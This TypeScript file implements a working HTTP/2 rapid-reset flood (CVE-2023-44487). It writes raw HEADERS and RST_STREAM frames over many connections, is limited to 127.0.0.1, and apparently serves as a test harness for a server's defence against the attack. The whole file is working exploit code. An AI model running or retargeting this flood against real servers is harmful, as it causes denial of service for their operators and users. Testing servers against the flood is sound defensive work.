/**
 * An HTTP/2 rapid-reset flood (CVE-2023-44487) written as raw frames: on each connection, after the preface and
 * settings, every stream is a HEADERS frame (a gRPC call's, its request not ended) followed at once by its
 * RST_STREAM(CANCEL), all in one write. A Node client cannot send this: it does not put a stream on the wire that
 * it has already reset. Only to 127.0.0.1.
 */
import { connect, type Socket } from 'node:net';
import { once } from 'node:events';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const CANCEL = 0x8;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/** An HPACK string literal, not Huffman-coded (every string here is under 127 bytes). */
const literal = (text: string): Buffer => Buffer.concat([Buffer.from([text.length]), Buffer.from(text, 'latin1')]);

/** A POST of `path` as an HPACK block: indexed :method POST and :scheme http, the rest literal without indexing. */
function requestBlock(path: string, authority: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x83, 0x86]),
    Buffer.from([0x04]),
    literal(path),
    Buffer.from([0x01]),
    literal(authority),
    Buffer.from([0x0f, 0x10]),
    literal('application/grpc'),
    Buffer.from([0x00]),
    literal('te'),
    literal('trailers'),
  ]);
}

export interface RapidResetOptions {
  readonly port: number;
  readonly connections: number;
  readonly streamsPerConnection: number;
  readonly path: string;
  /** Each frame its own write (and segment, where the reader keeps up), rather than the whole flood in one. */
  readonly frameByFrame?: boolean;
}

/** Resolves when a PING ACK or a GOAWAY arrives on `socket` (frames read as they come; a closed socket never resolves it). */
function readOrRefused(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    let pending = Buffer.alloc(0);
    socket.on('data', (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending.length < 9 + length) break;
        // A PING ACK, or a GOAWAY: Node ends a connection that resets too many streams (and leaves it open).
        if ((pending[3] === 0x6 && (pending[4]! & 0x1) !== 0) || pending[3] === 0x7) resolve();
        pending = pending.subarray(9 + length);
      }
    });
  });
}

/** Sends the flood and resolves once the server has read all of it on every connection, or ended the connection; the streams sent. */
export async function rapidReset(options: RapidResetOptions): Promise<{ streamsSent: number }> {
  let streamsSent = 0;
  const one = async (): Promise<void> => {
    const socket: Socket = connect(options.port, '127.0.0.1');
    socket.on('error', () => undefined);
    await once(socket, 'connect');
    socket.write(Buffer.concat([PREFACE, frame(0x4, 0, 0, Buffer.alloc(0))]));
    // The server's SETTINGS first, then our ACK of them and the flood in one write.
    await once(socket, 'data');
    const done = Promise.race([once(socket, 'close'), readOrRefused(socket)]);
    const frames: Buffer[] = [frame(0x4, 0x1, 0, Buffer.alloc(0))];
    const block = requestBlock(options.path, `127.0.0.1:${options.port}`);
    const rst = Buffer.alloc(4);
    rst.writeUInt32BE(CANCEL);
    for (let i = 0; i < options.streamsPerConnection; i++) {
      const id = 1 + 2 * i;
      frames.push(frame(0x1, 0x4, id, block), frame(0x3, 0, id, rst));
    }
    // A PING after the flood: its ACK comes once the server has read every frame before it.
    frames.push(frame(0x6, 0, 0, Buffer.alloc(8)));
    streamsSent += options.streamsPerConnection;
    if (options.frameByFrame === true) {
      socket.setNoDelay(true);
      // Each stream's HEADERS, and its RST_STREAM once the server has had a turn to read them.
      for (let i = 1; i < frames.length - 1 && !socket.destroyed; i += 2) {
        socket.write(frames[i]!);
        await new Promise((resolve) => setImmediate(resolve));
        socket.write(frames[i + 1]!);
      }
      socket.write(frames.at(-1)!);
    } else socket.write(Buffer.concat(frames));
    await done;
    socket.destroy();
  };
  await Promise.all(Array.from({ length: options.connections }, one));
  return { streamsSent };
}
